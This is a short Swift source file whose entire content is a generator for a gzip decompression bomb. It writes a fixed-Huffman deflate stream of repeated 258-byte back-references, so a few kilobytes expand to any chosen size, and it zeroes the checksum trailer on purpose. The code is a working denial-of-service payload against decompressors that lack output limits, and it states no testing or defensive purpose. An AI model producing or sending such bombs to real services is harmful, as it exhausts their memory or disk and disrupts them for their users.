/// Writes zeros so that they take little room: 13 bits for each 258 of them.
enum GzipBomb {
  static func make(bytes: Int) -> [UInt8] {
    var bits = BitWriter()
    // One block, the last, with the codes that the standard fixes; then one zero to copy from.
    bits.write(0b1, count: 1)
    bits.write(0b01, count: 2)
    bits.writeCode(0b0011_0000, count: 8)
    for _ in 0..<(bytes / 258) {
      // "258 bytes", and "as the one before".
      bits.writeCode(0b1100_0101, count: 8)
      bits.writeCode(0, count: 5)
    }
    bits.writeCode(0, count: 7)
    // The checksum is not right, but who comes so far has inflated everything.
    return [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3] + bits.bytes + [UInt8](repeating: 0, count: 8)
  }

  private struct BitWriter {
    var bytes: [UInt8] = []
    private var used = 8

    mutating func write(_ value: UInt16, count: Int) {
      for position in 0..<count {
        if used == 8 {
          bytes.append(0)
          used = 0
        }
        if value >> UInt16(position) & 1 == 1 { bytes[bytes.count - 1] |= 1 << UInt8(used) }
        used += 1
      }
    }

    /// Huffman codes are written from their highest bit.
    mutating func writeCode(_ value: UInt16, count: Int) {
      for position in (0..<count).reversed() { write(value >> UInt16(position) & 1, count: 1) }
    }
  }
}
